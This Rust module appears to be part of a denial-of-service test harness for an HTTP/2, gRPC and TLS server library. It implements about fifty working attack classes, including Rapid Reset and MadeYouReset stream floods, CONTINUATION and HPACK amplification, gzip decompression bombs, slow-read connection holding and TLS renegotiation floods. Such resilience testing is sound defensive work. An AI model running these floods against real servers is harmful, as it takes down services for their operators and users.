//! The ways to attack.

use std::io::Write;
use std::sync::LazyLock;

use clap::ValueEnum;
use flate2::Compression;
use flate2::write::GzEncoder;
use thalweg::tls::rustls::{ContentType, SupportedProtocolVersion};
use thalweg_engine::http2::frame::{Flags, Kind, PREFACE, Setting};

use super::frames::Frames;
use super::hoard::{Hoard, Protocol};
use super::tls::{Records, TLS12, TLS13, TlsWork};

/// A way to attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Class {
    /// PINGs, which want to be answered
    Ping,
    /// SETTINGS, which want to be acknowledged
    Settings,
    /// Acknowledgements of SETTINGS that nobody has sent
    SettingsAcks,
    /// SETTINGS are never acknowledged, while calls are made
    NeverAcks,
    /// PRIORITY
    Priority,
    /// Frames of a type that there is not
    Unknown,
    /// WINDOW_UPDATEs of one byte
    WindowUpdates,
    /// Empty DATA
    EmptyData,
    /// DATA of one byte
    TinyData,
    /// A header block that never ends
    Continuation,
    /// Streams that are opened and reset at once (CVE-2023-44487)
    RapidReset,
    /// Streams that the server is made to reset (CVE-2025-8671)
    MadeYouReset,
    /// More streams than there may be, none of which ends
    Refused,
    /// CONNECT requests
    Connect,
    /// Large header blocks on a stream that was reset
    BlocksOnReset,
    /// Large header blocks on a stream that ended long ago
    BlocksOnForgotten,
    /// Fields of two octets that name an entry of 4 KB
    NameCopies,
    /// Header lists that are too large
    LargeLists,
    /// Messages that become a thousand times as large when decompressed
    GzipBomb,
    /// Messages of 4 KiB that become 4 MiB, the most that is taken
    GzipSmall,
    /// Streams of a dozen of them
    GzipStreams,
    /// Messages of gzip members that are all empty
    GzipMembers,
    /// Requests of which one byte is missing, on as many streams as there may be
    Unfinished,
    /// Large answers that nobody reads: the window is 0
    Unread,
    /// Half a header block, of less than any server takes for too long
    HalfBlock,
    /// Calls with metadata of 16 KiB that a table's indices name in 500 bytes, and no message
    LargeHeads,
    /// Whole calls with such metadata, as many in a read as come
    LargeHeadCalls,
    /// Connections that shake hands and then do nothing
    Idle,
    /// Requests that come a byte at a time
    SlowRequest,
    /// Calls whose answers are not read off the socket
    SlowReader,
    /// Large responses of JSON over HTTP/1.1 that nobody reads
    UnreadHttp1,
    /// The same over TLS
    TlsUnreadHttp1,
    /// Large responses of which each is taken a byte every ten seconds
    Trickle,
    /// The same of JSON over HTTP/2
    TrickleJson,
    /// The same over TLS
    TlsTrickle,
    /// Large responses of handlers that all begin before the first has answered
    Tasks,
    /// The same of JSON over HTTP/2
    TasksJson,
    /// The same over TLS
    TlsTasks,
    /// TLS: connections that say nothing
    TlsSilent,
    /// TLS: half a ClientHello
    TlsHalfHello,
    /// TLS: a ClientHello, and nothing behind it
    TlsNoFinish,
    /// TLS: one whole handshake after the other
    TlsHandshakes,
    /// TLS: garbage, on one connection after the other
    TlsGarbage,
    /// TLS: HTTP without TLS, on one connection after the other
    TlsPlain,
    /// TLS: a message of the handshake that never ends, a byte a record
    TlsFragments,
    /// TLS 1.2: the client wants another handshake, again and again
    TlsRenegotiation,
    /// TLS 1.2: alerts that are warnings
    TlsAlerts,
    /// TLS 1.3: KeyUpdates, which want to be answered
    TlsKeyUpdates,
    /// TLS: records of nothing
    TlsEmptyRecords,
    /// TLS: an honest call's messages, a byte a record
    TlsTinyRecords,
}

/// What an attacker does.
pub(crate) enum Work {
    /// On one connection, as much as it takes.
    Flood { settings: &'static [Setting], acks: bool, first: fn(&mut Frames), round: fn(&mut Frames, u64) },
    /// On some connections something, and a little more ten times a second.
    Hold {
        settings: &'static [Setting],
        reads: bool,
        /// The end of a call counts as that of a connection does.
        counts_calls: bool,
        first: fn(&mut Frames),
        drip: fn(&mut Frames),
    },
    /// On TLS.
    Tls(TlsWork),
    /// Responses that are not taken.
    Hoard(Hoard),
}

/// A head that is all there is to a request.
const WHOLE: Flags = Flags::END_HEADERS.with_if(true, Flags::END_STREAM);
const NOTHING: fn(&mut Frames) = |_| {};
/// So many streams a server permits at least, as RFC 9113 §6.5.2 recommends.
const STREAMS: usize = 100;
/// The most that a frame may have before the server has said otherwise.
const FRAME_LEN: usize = 16 << 10;
/// `:method: GET`, indexed.
const GET: u8 = 0x82;

fn flood(first: fn(&mut Frames), round: fn(&mut Frames, u64)) -> Work {
    Work::Flood { settings: &[], acks: true, first, round }
}

fn hold(first: fn(&mut Frames), drip: fn(&mut Frames)) -> Work {
    Work::Hold { settings: &[], reads: true, counts_calls: false, first, drip }
}

fn hoard(protocol: Protocol, calls: u32, is_compressed: bool, over_tls: bool) -> Work {
    Work::Hoard(Hoard { protocol, calls, is_compressed, over_tls })
}

fn records(
    version: &'static SupportedProtocolVersion,
    first: fn(&mut Records),
    round: fn(&mut Records, u64),
) -> Work {
    Work::Tls(TlsWork::Records { version, first, round })
}

impl Class {
    pub(crate) fn work(self) -> Work {
        match self {
            Self::Ping => flood(NOTHING, |it, _| it.ping()),
            Self::Settings => flood(NOTHING, |it, _| it.settings(&[])),
            Self::SettingsAcks => flood(NOTHING, |it, _| it.settings_ack()),
            Self::NeverAcks => Work::Flood {
                settings: &[],
                acks: false,
                first: NOTHING,
                round: |it, _| it.unary(&[], false, b""),
            },
            Self::Priority => flood(NOTHING, |it, _| it.frame(Kind::Priority, Flags::NONE, 1, &[0; 5])),
            Self::Unknown => flood(NOTHING, |it, _| it.frame(Kind::Unknown(99), Flags::NONE, 0, b"")),
            Self::WindowUpdates => flood(call, |it, _| it.window_update(1, 1)),
            Self::EmptyData => flood(call, |it, _| it.data(1, false, b"")),
            Self::TinyData => flood(
                |it| {
                    call(it);
                    // A message of 4 MiB to come.
                    it.data(1, false, &[0, 0, 0x40, 0, 0]);
                },
                |it, _| it.data(1, false, b"x"),
            ),
            Self::Continuation => flood(
                |it| {
                    let stream = it.stream();
                    it.frame(Kind::Headers, Flags::NONE, stream, &[GET]);
                },
                |it, _| it.frame(Kind::Continuation, Flags::NONE, 1, &[GET]),
            ),
            Self::RapidReset => flood(NOTHING, |it, _| {
                let stream = it.call("UnaryCall");
                it.reset(stream);
            }),
            Self::MadeYouReset => flood(NOTHING, |it, _| {
                let stream = it.call("UnaryCall");
                it.window_update(stream, 0);
            }),
            Self::Refused => flood(NOTHING, |it, _| {
                it.call("StreamingCall");
            }),
            Self::Connect => flood(NOTHING, |it, _| {
                let stream = it.stream();
                // `:method: CONNECT` and `:authority: a`, literals.
                let block = [&[0x02, 7][..], b"CONNECT", &[0x01, 1], b"a"].concat();
                it.frame(Kind::Headers, Flags::END_HEADERS, stream, &block);
            }),
            Self::BlocksOnReset => flood(
                |it| {
                    let stream = it.call("UnaryCall");
                    it.reset(stream);
                },
                |it, _| it.frame(Kind::Headers, Flags::END_HEADERS, 1, &[GET; FRAME_LEN]),
            ),
            Self::BlocksOnForgotten => flood(
                |it| {
                    for _ in 0..64 {
                        let stream = it.call("UnaryCall");
                        it.reset(stream);
                    }
                },
                |it, _| it.frame(Kind::Headers, Flags::END_HEADERS, 3, &[GET; FRAME_LEN]),
            ),
            Self::NameCopies => flood(
                |it| {
                    // A name of 4,000 bytes enters the table.
                    let block = [&[0x40, 0x7f, 0xa1, 0x1e][..], &[b'a'; 4000], &[0]].concat();
                    let stream = it.stream();
                    it.frame(Kind::Headers, WHOLE, stream, &block);
                },
                |it, _| {
                    // It is named again and again, with an empty value.
                    let stream = it.stream();
                    let block = [0x7e, 0].repeat(FRAME_LEN / 2);
                    it.frame(Kind::Headers, WHOLE, stream, &block);
                },
            ),
            Self::LargeLists => flood(NOTHING, |it, _| {
                let stream = it.stream();
                it.frame(Kind::Headers, WHOLE, stream, &[GET; FRAME_LEN]);
            }),
            Self::GzipBomb => flood(NOTHING, |it, _| it.unary(&[("grpc-encoding", "gzip")], true, &BOMB)),
            Self::GzipSmall => {
                flood(NOTHING, |it, _| it.unary(&[("grpc-encoding", "gzip")], true, &SMALL_BOMB))
            }
            Self::GzipStreams => flood(NOTHING, |it, _| {
                let stream = it.call_with("StreamingFromClient", &[("grpc-encoding", "gzip")]);
                let len = (SMALL_BOMB.len() as u32).to_be_bytes();
                let envelope = [&[1][..], &len, &SMALL_BOMB].concat();
                (1..=12).for_each(|number| it.data(stream, number == 12, &envelope));
            }),
            Self::GzipMembers => flood(NOTHING, |it, _| {
                let members = EMPTY_MEMBER.repeat((4 << 20) / EMPTY_MEMBER.len() - 1);
                it.unary(&[("grpc-encoding", "gzip")], true, &members);
            }),
            Self::Unfinished => hold(
                |it| {
                    for _ in 0..STREAMS {
                        let stream = it.call("UnaryCall");
                        // All but the last byte of a message of 4 MiB, as far as the windows go.
                        it.data(stream, false, &[0, 0, 0x40, 0, 0]);
                        for _ in 0..4 {
                            it.data(stream, false, &[0; 15_000]);
                        }
                    }
                },
                NOTHING,
            ),
            Self::Unread => Work::Hold {
                settings: &[Setting::InitialWindowSize(0)],
                reads: true,
                counts_calls: false,
                first: |it| {
                    for _ in 0..STREAMS {
                        // SimpleRequest { response_size: 4 MiB - 64 }
                        it.unary(&[], false, &[0x10, 0xc0, 0xff, 0xff, 0x01]);
                    }
                },
                drip: NOTHING,
            },
            Self::HalfBlock => hold(
                |it| {
                    let stream = it.stream();
                    it.frame(Kind::Headers, Flags::NONE, stream, &[GET; HALF_BLOCK_LEN]);
                    it.frame(Kind::Continuation, Flags::NONE, stream, &[GET; HALF_BLOCK_LEN]);
                },
                NOTHING,
            ),
            Self::LargeHeads => hold(
                |it| {
                    for _ in 0..STREAMS {
                        it.call_with("StreamingFromClient", &[("a", ""); FIELDS]);
                    }
                },
                NOTHING,
            ),
            Self::LargeHeadCalls => hold(large_head_calls, large_head_calls),
            Self::Idle => hold(NOTHING, NOTHING),
            Self::SlowRequest => Work::Hold {
                settings: &[],
                reads: true,
                counts_calls: true,
                first: |it| {
                    call(it);
                    it.data(1, false, &[0, 0, 0, 0xff, 0xff]);
                },
                drip: |it| {
                    it.data(1, false, b"x");
                    it.is_urgent = true;
                },
            },
            Self::SlowReader => Work::Hold {
                settings: &[Setting::InitialWindowSize(i32::MAX as u32)],
                reads: false,
                counts_calls: false,
                first: |it| {
                    it.window_update(0, i32::MAX as u32 / 2);
                    for _ in 0..STREAMS {
                        it.unary(&[], false, &[0x10, 0xc0, 0xff, 0xff, 0x01]);
                    }
                },
                // Who reads nothing hears of an end only when it writes.
                drip: |it| {
                    it.window_update(0, 1);
                    it.is_urgent = true;
                },
            },
            Self::UnreadHttp1 => hoard(Protocol::Http1, 1, false, false),
            Self::TlsUnreadHttp1 => hoard(Protocol::Http1, 1, false, true),
            Self::Trickle => hoard(Protocol::Grpc, 200, false, false),
            Self::TrickleJson => hoard(Protocol::Json, 200, false, false),
            Self::TlsTrickle => hoard(Protocol::Grpc, 200, false, true),
            Self::Tasks => hoard(Protocol::Grpc, 100, true, false),
            Self::TasksJson => hoard(Protocol::Json, 100, true, false),
            Self::TlsTasks => hoard(Protocol::Grpc, 100, true, true),
            Self::TlsSilent => Work::Tls(TlsWork::Stall(|_| b"")),
            Self::TlsHalfHello => Work::Tls(TlsWork::Stall(|hello| &hello[..hello.len() / 2])),
            Self::TlsNoFinish => Work::Tls(TlsWork::Stall(|hello| hello)),
            Self::TlsHandshakes => Work::Tls(TlsWork::Handshakes),
            Self::TlsGarbage => Work::Tls(TlsWork::Knock(|| b"SSH-2.0-OpenSSH_9.9\r\n".repeat(50))),
            Self::TlsPlain => Work::Tls(TlsWork::Knock(|| PREFACE.to_vec())),
            Self::TlsFragments => Work::Tls(TlsWork::Knock(|| {
                // A ClientHello of 64 KiB less one; each byte in a record of its own.
                let message = [&[1, 0, 0xff, 0xff][..], &vec![3; 0xfff0]].concat();
                message.iter().flat_map(|byte| [22, 3, 1, 0, 1, *byte]).collect()
            })),
            Self::TlsRenegotiation => records(&TLS12, |_| (), |it, _| it.hello_again()),
            Self::TlsAlerts => {
                // The level of a warning, and `no_renegotiation`.
                records(&TLS12, |_| (), |it, _| it.record(ContentType::Alert, &[1, 100]))
            }
            Self::TlsKeyUpdates => Work::Tls(TlsWork::KeyUpdates),
            Self::TlsEmptyRecords => {
                records(&TLS13, |_| (), |it, _| it.record(ContentType::ApplicationData, b""))
            }
            Self::TlsTinyRecords => records(&TLS13, begin_tiny, |it, number| {
                let mut frames = Frames::new();
                if number.is_multiple_of(PARTS) {
                    let len = (PARTS * PART_LEN as u64) as u32;
                    frames.data(1, false, &[&[0][..], &len.to_be_bytes()].concat());
                }
                frames.data(1, false, &[0; PART_LEN]);
                it.byte_by_byte(&frames.out);
            }),
        }
    }
}

/// Less than half of what gRPC C++ takes of a header block, and with a CONTINUATION.
const HALF_BLOCK_LEN: usize = 7_000;
/// A list of 16 KiB at most, of fields that count 33 bytes each.
const FIELDS: usize = 470;
/// A message in so many DATA frames of this length.
const PARTS: u64 = 4000;
const PART_LEN: usize = 1000;

/// HTTP/2 begins, and a call whose messages will come.
fn begin_tiny(records: &mut Records) {
    let mut frames = Frames::new();
    frames.raw(PREFACE);
    frames.settings(&[]);
    frames.settings_ack();
    call(&mut frames);
    records.record(ContentType::ApplicationData, &frames.out);
}

/// A call that takes a stream of messages, on the first stream.
fn call(frames: &mut Frames) {
    frames.call("StreamingFromClient");
}

/// As many whole calls as there may be, with metadata of 16 KiB.
fn large_head_calls(frames: &mut Frames) {
    for _ in 0..STREAMS {
        frames.unary(&[("a", ""); FIELDS], false, b"");
    }
}

/// A gzip member of nothing.
const EMPTY_MEMBER: [u8; 20] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0];

/// A gzip member of 256 MiB of zeros.
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| gzip(&vec![0; 256 << 20]));

/// One of 4 MiB: a SimpleRequest with a field of so many bytes that nobody knows.
static SMALL_BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
    // Field 100, of bytes; a varint of four bytes for its length.
    let len = (4 << 20) - 6;
    let head =
        [0xa2, 0x06, len as u8 | 0x80, (len >> 7) as u8 | 0x80, (len >> 14) as u8 | 0x80, (len >> 21) as u8];
    gzip(&[&head[..], &vec![0; len]].concat())
});

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).expect("a Vec takes all");
    encoder.finish().expect("a Vec takes all")
}
